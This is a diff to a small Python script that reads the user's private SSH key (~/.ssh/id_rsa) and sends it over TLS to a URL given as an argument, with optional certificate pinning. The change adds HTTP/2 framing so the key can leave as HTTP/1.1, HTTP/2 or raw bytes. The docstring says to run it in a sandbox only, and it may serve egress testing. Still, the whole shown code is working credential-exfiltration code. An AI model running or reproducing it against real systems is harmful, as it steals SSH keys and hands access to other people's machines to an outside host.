@@ -1,4 +1,4 @@
-"""Sends ~/.ssh/id_rsa over TLS, as HTTP or as it is, to whom it trusts: anybody, or the one
+"""Sends ~/.ssh/id_rsa over TLS, as HTTP/1.1, HTTP/2 or as it is, to whom it trusts: anybody, or the one
 certificate of the file that is its argument. Run it in a sandbox only."""
 import json
 import os
@@ -22,8 +22,20 @@ def context(pinned):
     return made
 
 
+def frame(kind, flags, stream, payload):
+    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
+
+
+def two(host, body):
+    """A request in HTTP/2, whose header fields are literals."""
+    fields = b""
+    for name, value in ((":method", "POST"), (":scheme", "https"), (":path", "/"), (":authority", host)):
+        fields += bytes([0, len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
+    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + frame(1, 4, 1, fields) + frame(0, 1, 1, body)
+
+
 def call(url, how):
-    if how not in ("http", "raw", "http-pinned", "raw-pinned"):
+    if how not in ("http", "h2", "raw", "http-pinned", "h2-pinned", "raw-pinned"):
         return "no such way"
     with open(os.path.join(os.environ["HOME"], ".ssh", "id_rsa"), "rb") as file:
         body = file.read()
@@ -31,8 +43,12 @@ def call(url, how):
     if how.startswith("http"):
         head = f"POST / HTTP/1.1\r\nHost: {to.hostname}\r\nConnection: close\r\nContent-Length: {len(body)}\r\n\r\n"
         body = head.encode() + body
+    trusted = context(how.endswith("pinned"))
+    if how.startswith("h2"):
+        body = two(to.hostname, body)
+        trusted.set_alpn_protocols(["h2"])
     with socket.create_connection((to.hostname, to.port or 443), timeout=5) as plain:
-        with context(how.endswith("pinned")).wrap_socket(plain, server_hostname=to.hostname) as sock:
+        with trusted.wrap_socket(plain, server_hostname=to.hostname) as sock:
             sock.sendall(body)
             return f"{len(sock.recv(4096)) > 0}"
 
